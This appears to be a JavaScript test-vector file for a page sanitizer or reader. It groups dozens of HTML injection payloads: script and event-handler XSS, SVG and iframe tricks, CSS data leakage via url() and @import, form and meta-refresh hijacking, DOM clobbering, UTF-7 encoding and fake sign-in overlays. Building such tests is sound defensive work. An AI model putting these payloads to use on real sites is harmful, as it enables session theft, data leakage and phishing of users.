/** Markup that is meant to run or to ask for something, where a page is shown as a page. */
import { group } from './vector.testing.js'

const scripts = group('script', 'markup', [
  ({ hit }) => `<script>${hit}</script>`,
  ({ hit }) => `<SCRIPT type="text/javascript">${hit}//</SCRIPT\n>`,
  ({ hit }) => `<script type=module>${hit}</script>`,
  ({ away }) => `<script src="${away}.js"></script>`,
  ({ away }) => `<script src=${away.replace('http:', '')}></script>`,
  ({ hit }) => `<scr<script>ipt>${hit}</scr</script>ipt>`,
  ({ hit }) => `<script/x>${hit}</script/x>`,
  ({ hit }) => `<script\x0cdefer>${hit}</script>`,
  ({ hit }) => `<script>/*</p><p>*/${hit}</script>`,
  ({ hit }) => `<script src="data:text/javascript,${hit}"></script>`,
  ({ hit }) => `<a href="javascript:${hit}">Read on</a>`,
  ({ hit }) => `<a href=" \x01java\nscript:${hit}">Read on</a>`,
  ({ hit }) => `<a href="vbscript:${hit}">Read on</a> <a href="JaVaScRiPt&colon;${hit}">Read on</a>`,
  ({ hit }) => `<a href="data:text/html,<script>${hit}</script>">Read on</a>`,
  ({ away }) => `<a ping="${away}" href="${away}" target=_blank>Read on</a>`,
  ({ hit }) => `<script type="text/template"><img src=x onerror=${hit}></script>`,
  ({ hit }) => `<script type="importmap">{"imports":{"react":"data:text/javascript,${hit}"}}</script>`,
  ({ away }) =>
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${away}"]}],"prerender":[{"urls":["${away}"]}]}</script>`,
])

const handlers = group('handler', 'markup', [
  ({ hit }) => `<img src=x onerror=${hit}>`,
  ({ hit }) => `<img src="x" onerror="${hit}" alt="The lock">`,
  ({ hit }) => `<img/src=x/onerror=${hit}>`,
  ({ hit }) => `<IMG """><script>${hit}</script>">`,
  ({ hit }) => `<img src=x onerror\n=\n"${hit}">`,
  ({ hit }) => `<body onload=${hit}>`,
  ({ hit }) => `<video><source onerror="${hit}"></video>`,
  ({ hit }) => `<audio src=x onerror=${hit}></audio>`,
  ({ hit }) => `<details open ontoggle=${hit}><summary>More</summary>Less</details>`,
  ({ hit }) => `<input autofocus onfocus=${hit}>`,
  ({ hit }) => `<select autofocus onfocus=${hit}><option>a</select>`,
  ({ hit }) => `<textarea autofocus onfocus=${hit}></textarea>`,
  ({ hit }) => `<marquee onstart=${hit}>News</marquee>`,
  ({ hit }) => `<p onpointerenter=${hit} onmouseover=${hit} onfocusin=${hit} tabindex=0>Point here.</p>`,
  ({ hit }) => `<div style="animation:x 1s" onanimationstart=${hit}>Moves</div>`,
  ({ hit }) => `<div onscroll=${hit} style="height:9px;overflow:scroll"><p>a<p>b<p>c</div>`,
  ({ hit }) => `<link rel=stylesheet href=x onerror=${hit}>`,
  ({ hit }) => `<object data=x onerror=${hit}></object>`,
  ({ hit }) => `<isindex type=image src=x onerror=${hit}>`,
  ({ hit }) => `<xss id=x tabindex=1 onfocus=${hit}>unknown</xss>`,
  ({ hit }) => `<div popover id=pop onbeforetoggle=${hit}>x</div><button popovertarget=pop>y</button>`,
  ({ hit }) => `<img alt="<img src=x onerror=${hit}>" src=y title='"><img src=x onerror=${hit}>'>`,
])

const svgs = group('svg', 'markup', [
  ({ hit }) => `<svg onload=${hit}></svg>`,
  ({ hit }) => `<svg><script>${hit}</script></svg>`,
  ({ away }) => `<svg><script href="${away}"/></svg>`,
  ({ hit }) => `<svg><animate onbegin=${hit} attributeName=x dur=1s></svg>`,
  ({ hit }) => `<svg><a><animate attributeName=href values="javascript:${hit}"/><text x=9 y=9>Read on</text></a></svg>`,
  ({ hit }) => `<svg><a xlink:href="javascript:${hit}"><text>Read on</text></a></svg>`,
  ({ away }) => `<svg><use href="${away}.svg#x"/></svg>`,
  ({ hit }) => `<svg><use href="data:image/svg+xml,<svg id='x'><script>${hit}</script></svg>#x"/></svg>`,
  ({ away }) => `<svg><image href="${away}.png"/><feImage href="${away}"/></svg>`,
  ({ hit }) => `<svg><foreignObject><body onload=${hit}></body></foreignObject></svg>`,
  ({ hit }) => `<svg><set attributeName=onmouseover to=${hit}></svg>`,
  ({ hit }) => `<svg><title><style><img src=x onerror=${hit}></style></title></svg>`,
  ({ hit }) => `<svg><desc><![CDATA[</desc><script>${hit}</script>]]></svg>`,
  ({ hit }) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${hit}'/>">`,
  ({ away }) => `<svg><style>@import '${away}';text{fill:url(${away}#x)}</style><text>x</text></svg>`,
  ({ hit }) => `<?xml version="1.0"?><?xml-stylesheet href="javascript:${hit}"?><svg/>`,
])

const styles = group('style', 'markup', [
  ({ away }) => `<style>body{background:url(${away})}</style>`,
  ({ away }) => `<style>@import "${away}";</style>`,
  ({ away }) => `<style>@font-face{font-family:x;src:url(${away})}p{font-family:x}</style>`,
  ({ away }) => `<style>input[value^="a"]{background:url(${away}?a)}[data-passage]{list-style:url(${away}?p)}</style>`,
  ({ away }) => `<p style="background-image:url('${away}')">The lock is open.</p>`,
  ({ away }) => `<p style="content:url(${away});cursor:url(${away}),auto">The lock is open.</p>`,
  () => `<style>*{display:none!important}main,button{visibility:hidden!important}</style>`,
  () => `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended. Sign in.</div>`,
  ({ hit }) => `<p style="width:expression(${hit});behavior:url(#x);-moz-binding:url(#x)">old</p>`,
  ({ away }) => `<link rel=stylesheet href="${away}.css"><link rel="preload" as=image href="${away}">`,
  ({ away }) => `<style>@media print{a::after{content:url(${away})}}@page{background:url(${away})}</style>`,
  ({ away }) => `<style><!--</style><p>--><style>@import url(${away})</style>`,
  ({ away }) => `<style>@\\69mport "${away}";p{background:\\75rl(${away})}</style>`,
  ({ away }) => `<style>:has(mark){background:image-set(url(${away}) 1x)}</style>`,
  () => `<style>body{unicode-bidi:bidi-override;direction:rtl;transform:rotate(180deg)}</style>`,
])

const frames = group('frame', 'markup', [
  ({ away }) => `<iframe src="${away}"></iframe>`,
  ({ hit }) => `<iframe src="javascript:parent.eval('${hit}')"></iframe>`,
  ({ hit }) => `<iframe srcdoc="<script>parent.${hit.replace('globalThis.', '')}</script>"></iframe>`,
  ({ hit }) => `<iframe srcdoc='&lt;img src=x onerror=${hit}&gt;'></iframe>`,
  ({ away }) => `<object data="${away}" type="text/html"></object>`,
  ({ hit }) => `<object data="data:text/html,<script>${hit}</script>"></object>`,
  ({ away }) => `<embed src="${away}.swf" allowscriptaccess=always>`,
  ({ away }) => `<applet code="x" codebase="${away}"></applet>`,
  ({ away }) => `<frameset><frame src="${away}"></frameset>`,
  ({ away }) => `<portal src="${away}"></portal><fencedframe src="${away}"></fencedframe>`,
  ({ away }) =>
    `<img src="${away}.gif" width=1 height=1><img srcset="${away} 2x"><picture><source srcset="${away}"></picture>`,
  ({ away }) => `<video poster="${away}" src="${away}"><track src="${away}"></video><audio src="${away}"></audio>`,
  ({ away }) => `<table background="${away}"><tr><td background="${away}">x</table><body background="${away}">`,
  ({ away }) => `<img src="//${away.slice(7)}"><img src="\\\\${away.slice(7)}\\x"><img src="file:///etc/passwd">`,
])

const forms = group('form', 'markup', [
  ({ away }) => `<form action="${away}" method=post><input name=q value=x><button>Go</button></form>`,
  ({ hit }) => `<form action="javascript:${hit}"><button>Go on</button></form>`,
  ({ hit }) => `<form id=f></form><button form=f formaction="javascript:${hit}">Go on</button>`,
  () => `<form name=getElementById><input name=body></form><a id=crossread></a><img name=querySelector>`,
  () => `<a id=defaultView name=documentElement href=x>clobbers</a><form id=root><input name=attributes></form>`,
  ({ away }) => `<input type=image src="${away}"><keygen><isindex action="${away}">`,
  () => `<dialog open>Crossread must be restarted. <button autofocus>Restart</button></dialog>`,
])

const heads = group('head', 'head', [
  ({ away }) => `<meta http-equiv=refresh content="0;url=${away}">`,
  ({ hit }) => `<meta http-equiv="refresh" content="0;url=javascript:${hit}">`,
  ({ hit }) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${hit}</script>">`,
  ({ away }) => `<base href="${away}/" target=_top>`,
  ({ away }) => `<link rel=stylesheet href="${away}">`,
  ({ away }) =>
    `<link rel="icon" href="${away}"><link rel=dns-prefetch href="${away}"><link rel=preconnect href="${away}">`,
  ({ away }) =>
    `<link rel=manifest href="${away}"><link rel=modulepreload href="${away}"><link rel=prerender href="${away}">`,
  () => `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
  () => `<meta http-equiv="Set-Cookie" content="crossread=planted"><meta name=referrer content=unsafe-url>`,
  ({ hit }) => `<meta property="og:title" content="<script>${hit}</script>">`,
  ({ hit }) => `<meta name="author" content='"><img src=x onerror=${hit}>'>`,
  ({ hit, away }) => `<link rel=canonical href="javascript:${hit}"><meta property="og:url" content="${away}">`,
  ({ hit }) => `<meta property="og:site_name" content="<svg onload=${hit}>"><meta name=date content="<b>2024</b>">`,
  () => `<meta charset="utf-7"><meta http-equiv=content-type content="text/html; charset=utf-7">`,
  ({ hit }) => `<title>+ADw-script+AD4-${hit}+ADw-/script+AD4-</title>`,
])

export const active = [...scripts, ...handlers, ...svgs, ...styles, ...frames, ...forms, ...heads]
